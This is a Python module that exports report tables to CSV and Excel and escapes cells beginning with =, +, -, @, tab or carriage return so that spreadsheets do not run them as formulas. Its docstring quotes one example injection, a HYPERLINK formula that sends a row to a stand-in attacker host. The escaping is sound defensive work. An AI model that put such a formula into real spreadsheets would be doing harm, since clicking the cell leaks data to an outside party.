"""Table-shaped data (the indicator table, the review) as CSV or Excel: one writer for every table.

A table module (indicator_rows, review_rows) says how its rows become sheets (`Sheet`); this module
writes them. Every text cell is neutralised on the way out: report text, file names, agencies and
corrections are data from outside, and a spreadsheet would run a cell that begins with = + - @ (or
a tab or carriage return before one) as a formula (`=HYPERLINK("http://evil.example/?x="&A2,…)`
sends the row away when clicked). CSV cells get a leading apostrophe (OWASP's advice; Excel shows
the text as written); Excel cells are stored as text, with the quote prefix set so that editing
the cell does not turn it into a formula either.
"""
from __future__ import annotations

import csv
import io
from collections.abc import Callable
from dataclasses import dataclass

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


@dataclass
class Sheet:
    title: str
    header: list[str]
    rows: list[list]
    csv_header: list[str] | None = None  # the CSV's own header, when scripts read other names
    widths: tuple[int, ...] = ()
    freeze: str = "A2"


@dataclass(frozen=True)
class Export:
    """One kind of table as it is downloaded: a file name, a Chinese label and how its rows become
    sheets (the first is the CSV)."""

    name: str  # file stem: indicators, review
    label: str  # 法治指标一览, 报告审查
    sheets: Callable[[list[dict]], list[Sheet]]

    def csv(self, rows: list[dict]) -> str:
        return to_csv(self.sheets(rows)[0])

    def xlsx(self, rows: list[dict]) -> bytes:
        return to_xlsx(self.sheets(rows))


def is_formula_like(value) -> bool:
    return isinstance(value, str) and value.startswith(FORMULA_STARTS)


def neutral(value):
    """A CSV cell that no spreadsheet reads as a formula; numbers and other text unchanged."""
    return "'" + value if is_formula_like(value) else value


def to_csv(sheet: Sheet) -> str:
    """The sheet as CSV with its header row; starts with a BOM so Excel opens the Chinese text as UTF-8."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\r\n")
    writer.writerow([neutral(h) for h in sheet.csv_header or sheet.header])
    for row in sheet.rows:
        writer.writerow(["" if v is None else neutral(v) for v in row])
    return "\ufeff" + out.getvalue()


def to_xlsx(sheets: list[Sheet]) -> bytes:
    """The sheets as one workbook (openpyxl: a maintained .xlsx writer); numbers stay numbers, text
    stays text."""
    from openpyxl import Workbook
    from openpyxl.utils import get_column_letter

    book = Workbook()
    book.remove(book.active)
    for sheet in sheets:
        ws = book.create_sheet(sheet.title)
        for values in [sheet.header, *sheet.rows]:
            ws.append(list(values))
            for cell in ws[ws.max_row]:
                if is_formula_like(cell.value):
                    cell.data_type = "s"  # openpyxl typed it a formula: written as text instead
                    cell.quotePrefix = True  # and Excel keeps it text when the cell is edited
        for i, width in enumerate(sheet.widths, start=1):
            ws.column_dimensions[get_column_letter(i)].width = width
        ws.freeze_panes = sheet.freeze
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()
